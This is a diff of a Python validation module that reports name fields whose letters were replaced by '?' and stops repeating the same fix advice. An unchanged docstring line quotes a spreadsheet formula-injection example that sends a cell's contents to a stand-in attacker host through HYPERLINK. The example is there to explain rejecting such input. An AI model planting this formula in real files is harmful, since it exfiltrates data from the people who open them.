@@ -14,7 +14,7 @@ from collections.abc import Callable, Mapping, Sequence
 
 from greeter.errors import Problem
 from greeter.sources.cell_text import GARBLED_COLUMN, MOJIBAKE_FIX, NAME_FIELDS, mojibake
-from greeter.sources.lost_letters import lost_among, lost_fix, lost_in
+from greeter.sources.lost_letters import lost_among, lost_fix, lost_fix_again, lost_in
 from greeter.sources.name_cells import PERSON_NAME_FIELDS
 from greeter.sources.quote import quoted
 
@@ -100,6 +100,7 @@ def lost_names(
     encoding: str | None,
     latin1_query: bool,
     problem: ProblemAt,
+    advised: dict[str, int] | None = None,
 ) -> list[Problem]:
     """An error for each name field whose letters were replaced by '?' («???? ??????» for «Пётр Иванов»).
 
@@ -112,6 +113,9 @@ def lost_names(
     A name field holding a MIME encoded-word (``=?utf-8?q?…?=``) lost nothing either: it is
     rejected as header syntax. A name field starting as a formula (``=HYPERLINK("http://evil.example/?x="&A1,…)``)
     lost nothing: it is rejected as a formula, not sent to re-export as UTF-8.
+    ``advised``: the file's advice given so far (:func:`lost_fix`'s text → the row that gave it),
+    which this fills: a later cell with the same says it in a few words (:func:`lost_fix_again`),
+    not 60 more per cell.
     """
     problems = []
     for name in fields:
@@ -134,6 +138,11 @@ def lost_names(
             and (note := lost_in(value, person=name in PERSON_NAME_FIELDS, encoding=encoding)) is not None
         ):
             fix = lost_fix(kind, encoding, latin1_query, lost_among(value))
+            advised = {} if advised is None else advised
+            if fix in advised:  # said at an earlier row, or another cell of this one
+                fix = lost_fix_again(kind, encoding, latin1_query, advised[fix])
+            else:
+                advised[fix] = line
             message = f"{quoted(value)} has '?' where letters were; the row is not loaded: {fix}{note}"
             problems.append(problem(line, name, message))
     return problems
